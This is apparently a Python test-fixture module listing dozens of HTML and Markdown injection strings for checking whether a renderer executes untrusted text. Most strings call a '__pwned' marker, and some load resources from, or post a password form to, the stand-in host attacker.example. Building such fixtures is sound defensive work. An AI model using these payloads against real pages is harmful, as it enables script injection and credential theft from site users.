"""Texts that act where a page takes them for HTML; each calls `__pwned`, or asks another address."""

from __future__ import annotations

ELSEWHERE = "https://attacker.example"

SHORT = (
    "<script>__pwned(1)</script>",
    "<img src=x onerror=__pwned(2)>",
    "<svg/onload=__pwned(3)>",
    "</title></textarea></dialog><script>__pwned(4)</script>",
    '"onfocus=__pwned(5) autofocus tabindex=1 x="',
    "'onmouseover='__pwned(6)",
    "<details open ontoggle=__pwned(7)>",
    "<style>@import'//attacker.example/a.css';</style>",
    "<iframe srcdoc='<script>parent.__pwned(8)</script>'>",
    "{{constructor.constructor('__pwned(9)')()}}",
    "${__pwned(10)}",
    "<%= __pwned(11) %>",
    "＜script＞__pwned(12)＜/script＞",
    "<ſcript>__pwned(13)</ſcript>",
    "&lt;img src=x onerror=__pwned(14)&gt;",
    "<math><mtext></table><mglyph><style><img src=x onerror=__pwned(15)>",
    "<svg><a href=x><animate attributeName=href onbegin=__pwned(16)>",
    "<base href=//attacker.example/><meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//attacker.example/b.css>",
    "<input autofocus onfocus=__pwned(17)><button popovertarget=x>",
)
"""Short enough for a name, and printable; without a colon, which names may not have."""

LONG = (
    "[a](javascript:__pwned(20))",
    "[b](JaVaScRiPt&colon;__pwned(21))",
    "[c](&#x6A;avascript:__pwned(22))",
    "[d](java\tscript:__pwned(23))",
    "[e](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZCgyNCk8L3NjcmlwdD4=)",
    "[f](vbscript:msgbox)",
    "[g](\x01javascript:__pwned(25))",
    '[h](https://ok.example "x\\" onmouseover=__pwned(26) y=\\"")',
    "<javascript:__pwned(27)>",
    "<https://ok.example/`onmouseover=__pwned(28)`>",
    f"![i]({ELSEWHERE}/i.png) ![j](data:image/svg+xml,<svg/onload=__pwned(29)>)",
    f'![k][r] [l][r]\n\n[r]: {ELSEWHERE}/r.png "\'><script>__pwned(30)</script>"',
    "```<script>__pwned(31)</script>\n</code></pre><img src=x onerror=__pwned(32)>\n```",
    "`</code><img src=x onerror=__pwned(33)>`",
    "| a | <img src=x onerror=__pwned(34)> |\n|---|:--onclick=__pwned(35)--|\n| b | c |",
    f"<video poster={ELSEWHERE}/p.png><source onerror=__pwned(36)></video>",
    f"<div style=background:url({ELSEWHERE}/s.png)>m</div>",
    f"<object data={ELSEWHERE}/o.swf></object><embed src={ELSEWHERE}/e.swf>",
    f"<form action={ELSEWHERE}><input name=password><button>Sign in</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=__pwned(37)>'>",
    "<!--><img src=x onerror=__pwned(38)>--> <![CDATA[<img src=x onerror=__pwned(39)>]]>",
    "\u202e<script>__pwned(40)</script>\u202c \ufeff<img\u2028src=x onerror=__pwned(41)>",
    "<a href='java\nscript:__pwned(42)'>n</a><a ping=//attacker.example href=#x>o</a>",
    "- [ ] <script>__pwned(43)</script>\n1. <x onclick=__pwned(44)>p</x>\n> <svg><script>__pwned(45)</script></svg>",
)

EVERYTHING = "\n\n".join([*SHORT, *LONG])
